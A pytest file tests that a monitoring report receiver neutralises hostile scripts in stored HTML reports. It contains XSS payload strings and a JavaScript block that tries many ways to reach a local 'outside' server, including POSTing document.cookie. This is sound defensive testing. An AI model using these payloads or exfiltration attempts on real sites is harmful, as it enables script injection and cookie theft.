"""What strangers wrote, in a real browser: a script in a report reaches neither the receiver nor anything beyond it."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from functools import partial
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, cast

import numpy as np
import pandas as pd
import pytest
import uvicorn

import monitoring.evidence.drift as drift_module
from bentos.policy.metrics import DriftMetric
from infra.receiver.late_labels import LabelLog
from infra.receiver.receiver import create_app
from infra.receiver.releases import ReleaseRow
from infra.stores.folder import FolderStore
from monitoring.evidence.drift import compute_drift
from monitoring.report.report import render
from tests.browser import Browser, browsing, needs_chromium
from tests.conftest import free_port
from tests.infra.receiver.test_index import Kept, row
from tests.monitoring.report.test_report import RELEASE, VERDICT, evidence, summarise

pytestmark = [
    needs_chromium,
    # at evidently's import, see tests/monitoring/evidence/test_drift.py
    pytest.mark.filterwarnings("ignore:.*Deprecated in litestar:DeprecationWarning"),
    pytest.mark.filterwarnings("ignore:numpy.core is deprecated:DeprecationWarning"),
]
# Whatever of these becomes markup says so in the page's title, which only a script can change
TEXTS = (
    "</script><script>document.title = 'owned'; document.body.append('owned')</script>",
    "\"><img src=x onerror=\"document.title = 'owned'; document.body.append('owned')\">",
    "</textarea></title><svg onload=\"document.title = 'owned'\">",
    "<a href=\"javascript:document.title='owned'\">honest</a>",
)
QUIET = 1.5  # seconds in which a script had its chance


@dataclass
class Outside:
    """Somebody else's machine: what reaches it, by HTTP or by a bare packet."""

    port: int
    seen: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@pytest.fixture
def outside() -> Iterator[Outside]:
    class Handler(BaseHTTPRequestHandler):
        def setup(self) -> None:
            found.seen.append("a connection")
            super().setup()

        def do_GET(self) -> None:
            found.seen.append(f"{self.command} {self.path}")
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 (the base class's name)

        def log_message(self, *_: object) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    found = Outside(server.server_port)
    packets = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    packets.bind(("127.0.0.1", found.port))
    packets.settimeout(0.1)
    over = threading.Event()

    def listen() -> None:
        while not over.is_set():
            try:
                packets.recvfrom(2048)
                found.seen.append("a packet")
            except TimeoutError:
                continue

    threads = [threading.Thread(target=server.serve_forever, args=(0.05,)), threading.Thread(target=listen)]
    for thread in threads:
        thread.start()
    yield found
    over.set()
    server.shutdown()
    for thread in threads:
        thread.join()
    server.server_close()
    packets.close()


@dataclass
class Receiver:
    """The receiver on a real socket, and what it was asked."""

    store: FolderStore
    releases: Kept
    scratch: Path
    port: int
    asked: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def put(self, key: str, text: str) -> str:
        self.scratch.write_text(text)
        self.store.put(key, self.scratch)
        return f"/reports/{key}"


@pytest.fixture
def receiver(tmp_path: Path) -> Iterator[Receiver]:
    found = Receiver(FolderStore(tmp_path / "reports"), Kept(), tmp_path / "scratch", free_port())
    app = create_app(
        runs=cast(Any, None),
        secret="s",
        reports=found.store,
        releases=found.releases,
        labels=LabelLog(tmp_path / "labels"),
    )

    async def counted(scope: Any, receive: Any, send: Any) -> None:
        if scope["type"] == "http":
            found.asked.append(f"{scope['method']} {scope['path']}")
        await app(scope, receive, send)

    config = uvicorn.Config(counted, host="127.0.0.1", port=found.port, log_level="warning", lifespan="off")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run)
    thread.start()
    while not server.started:
        time.sleep(0.02)
    yield found
    server.should_exit = True
    thread.join()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with browsing() as made:
        yield made


REQUESTS = """
const tries = [
  () => fetch(to + '/fetch', {mode: 'no-cors'}),
  () => fetch(to + '/post', {mode: 'no-cors', method: 'POST', body: document.cookie}),
  () => { const x = new XMLHttpRequest(); x.open('GET', to + '/xhr'); x.send(); },
  () => navigator.sendBeacon(to + '/beacon', 'x'),
  () => new WebSocket(to.replace('http', 'ws') + '/socket'),
  () => new EventSource(to + '/events'),
  () => { new Image().src = to + '/image'; },
  () => import(to + '/module.js'),
  () => new Worker(URL.createObjectURL(new Blob([`fetch('${to}/worker', {mode: 'no-cors'})`]))),
  () => eval(`fetch('${to}/eval', {mode: 'no-cors'})`),
  () => document.fonts.add(new FontFace('f', `url(${to}/font)`).load() && new FontFace('g', `url(${to}/font)`)),
  ...['script src', 'iframe src', 'object data', 'embed src', 'video src', 'link rel=stylesheet href',
      'link rel=preconnect href', 'link rel=prefetch href', 'link rel=preload as=image href', 'link rel=manifest href',
      'a ping=' + to + '/ping href'].map(tag => () => {
    const made = document.createElement('div');
    const [name, ...more] = tag.split(' ');
    made.innerHTML = `<${name} ${more.join(' ')}="${to}/${name}"></${name}>`;
    document.body.append(name === 'script' ? Object.assign(document.createElement('script'), {src: to + '/script'}) : made);
  }),
  () => { document.body.style.background = `url(${to}/background)`; },
  () => { const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:' + to.slice(7)}]});
          peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer)); },
];
for (const one of tries) { try { Promise.resolve(one()).catch(() => {}); } catch (refused) {} }
"""
SCRIPTS = {
    "requests": REQUESTS,
    "its own address": "location = to + '/location'",
    "the page around it": "top.location = to + '/top'",
    "a window": "window.open(to + '/window')",
    "a form": "document.body.innerHTML = `<form action='${to}/form' method=post>`; document.forms[0].submit()",
    "a refresh": "document.head.innerHTML = `<meta http-equiv=refresh content='0;url=${to}/refresh'>`",
    "a link": "document.body.innerHTML = `<a href='${to}/link'>`; document.querySelector('a').click()",
}


def hostile(script: str, to: str) -> str:
    return (
        "<!doctype html><body><p id=said>quiet</p><script>said.textContent = 'ran'; const to = "
        f"'{to}';\n{script}</script>"
    )


@pytest.mark.long("links")
@pytest.mark.parametrize("what", SCRIPTS)
def test_a_script_in_a_page_of_the_store_reaches_nothing(browser, receiver, outside, tmp_path, what) -> None:
    for to, seen in ((outside.url, outside.seen), (receiver.url, receiver.asked)):
        path = receiver.put("flights/r/drift-shadow.html", hostile(SCRIPTS[what], to))
        still = receiver.put("flights/r/report.html", hostile(SCRIPTS[what], to))
        for one in (path, still):
            seen.clear()
            with browser.page() as page:
                page.go(receiver.url + one)
                if one == path and what == "requests":
                    page.shows("ran")
                page.browser.idle(QUIET)
            # a browser may connect ahead to where a script wants to go, and asks only then whether it may: nothing is sent
            ahead = ("a connection", "a packet") if one == path else ()
            left = [other for other in seen if other not in (f"GET {one}", "GET /favicon.ico", *ahead)]
            assert left == [], (what, one, to)


@pytest.mark.long("links")
@pytest.mark.parametrize("what", [name for name in SCRIPTS if name != "a window"])
def test_the_same_script_would_reach_out_from_a_page_without_the_headers(browser, outside, tmp_path, what) -> None:
    (tmp_path / "page.html").write_text(hostile(SCRIPTS[what], outside.url))
    handler = type("Plain", (SimpleHTTPRequestHandler,), {"log_message": lambda *_: None})
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(handler, directory=str(tmp_path)))
    thread = threading.Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    try:
        with browser.page() as page:
            page.go(f"http://127.0.0.1:{server.server_port}/page.html")
            page.browser.idle(QUIET)
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
    assert outside.seen, "the test sees what it should"
    if what == "requests":
        paths = {one.partition("/")[2] for one in outside.seen}
        assert {"fetch", "post", "xhr", "beacon", "socket", "image", "script", "iframe", "worker"} <= paths
        assert "a packet" in outside.seen


def test_a_script_in_a_page_has_no_origin_no_cookie_and_no_storage(browser, receiver) -> None:
    read = """
    const can = (name, what) => { try { return name + ':' + what(); } catch (refused) { return name + ':refused'; } };
    said.textContent = [can('cookie', () => document.cookie), can('storage', () => localStorage.length),
      can('parent', () => parent.document.title), can('origin', () => self.origin)].join(' ');
    """
    path = receiver.put("flights/r/drift-split.html", hostile(read, ""))
    with browser.page() as page:
        page.go(receiver.url + path)
        assert "cookie:refused storage:refused parent:refused origin:null" in page.shows("origin:")


def drifted(html: Path, names: tuple[str, ...], labels: tuple[str, ...]) -> dict[str, float]:
    """Evidently's page of columns of these names and labels; the scores by column."""
    generator = np.random.default_rng(0)

    def frame(shift: float) -> pd.DataFrame:
        columns: dict[str, Any] = {name: generator.normal(size=600) + shift for name in names}
        return pd.DataFrame({**columns, f"labels {names[0]}": generator.choice(labels, 600)})

    answers = pd.DataFrame({side: generator.choice(labels, 600) for side in ("baseline", "candidate")})
    found = compute_drift(frame(1), answers, frame(0), DriftMetric(), html)
    return {column.column: column.score for column in (*found.inputs, *found.predictions)}


def test_an_honest_report_draws_its_charts(browser, receiver, tmp_path) -> None:
    drifted(tmp_path / "drift.html", ("distance", "carrier & airport"), ("AA", "B6"))
    path = receiver.put("flights/r/drift-shadow.html", (tmp_path / "drift.html").read_text())
    with browser.page() as page:
        page.go(receiver.url + path)
        assert "carrier \uff06 airport" in page.shows("input: distance")
        drawn = "document.querySelectorAll('.main-svg').length + document.querySelectorAll('canvas').length"
        end = time.monotonic() + 30
        while not any(page.evaluate(drawn)) and time.monotonic() < end:
            page.browser.idle(0.3)
        assert sum(filter(None, page.evaluate(drawn))) >= 2, page.said()
        assert [line for line in page.said() if "Content Security Policy" in line] == []


def test_hostile_names_and_labels_are_shown_as_text_and_score_as_others_do(browser, receiver, tmp_path) -> None:
    names, labels = TEXTS, (*TEXTS, "<b>", "\u2039b\u203a")
    scores = drifted(tmp_path / "hostile.html", names, labels)
    plain = drifted(tmp_path / "plain.html", ("a", "b", "c", "d"), tuple("123456"))
    assert list(scores)[: len(names)] == list(names)
    assert [round(score, 6) for score in scores.values()] == [round(score, 6) for score in plain.values()]
    page_text = (tmp_path / "hostile.html").read_text()
    assert not any(text in page_text for text in TEXTS)
    path = receiver.put("flights/r/drift-shadow.html", page_text)
    (tmp_path / "bare").mkdir()
    (tmp_path / "bare" / "hostile.html").write_text(page_text)
    for address in (receiver.url + path, (tmp_path / "bare" / "hostile.html").as_uri()):  # and as MLflow's download
        with browser.page() as page:
            page.go(address)
            shown = page.shows("input: ")
            page.browser.idle(QUIET)
            assert "owned" not in page.evaluate("document.title") and "\nowned" not in shown
            assert "\u2039img src=x" in shown


NAME = f"</script><script>document.title = 'owned'; const to = '%s';{REQUESTS}</script>"


@pytest.mark.long("links")
@pytest.mark.parametrize("sealed", [True, False])
def test_no_script_in_a_name_runs_even_where_names_are_not_made_harmless(
    browser, receiver, outside, tmp_path, monkeypatch, sealed
) -> None:
    monkeypatch.setattr(drift_module, "harmless", lambda texts: {text: text for text in texts})
    if not sealed:
        monkeypatch.setattr(drift_module, "sealed", lambda page: page)
    name = (NAME % outside.url).replace("\n", " ")
    drifted(tmp_path / "drift.html", (name,), ("<img src=x onerror=\"document.title = 'owned'\">", "b"))
    path = receiver.put("flights/r/drift-shadow.html", (tmp_path / "drift.html").read_text())
    titles = []
    for address in (receiver.url + path, (tmp_path / "drift.html").as_uri()):
        with browser.page() as page:
            page.go(address)
            if sealed:
                page.shows("input: ")
            page.browser.idle(QUIET)
            titles += page.evaluate("document.title")
    assert ("owned" in titles, outside.seen != []) == (not sealed, not sealed), "without the seal it would have run"


def test_the_release_page_and_the_index_show_what_strangers_wrote_as_text(browser, receiver) -> None:
    for text in TEXTS:
        known = replace(evidence(), notes=(text,), drift=replace(evidence().drift, note=text))
        release = replace(RELEASE, model=text, reason=text, policy_source=text)
        verdict = {**VERDICT, "metrics": [{"metric": text, "outcome": "ROLLBACK", "why": text}]}
        page_text = render(release, [verdict], [summarise(known, text)], {text: "javascript:document.title='owned'"})
        path = receiver.put("flights/r/report.html", page_text)
        model = text.replace("/", "")
        receiver.releases.rows = [cast(ReleaseRow, row(model, 1, reason=text))]
        for address, wanted in ((path, text), ("/reports", text)):
            with browser.page() as page:
                page.go(receiver.url + address)
                assert wanted in page.shows("version")
                page.browser.idle(0.3)
                assert page.evaluate("document.title") != ["owned"] and "\nowned" not in "\n".join(page.texts())
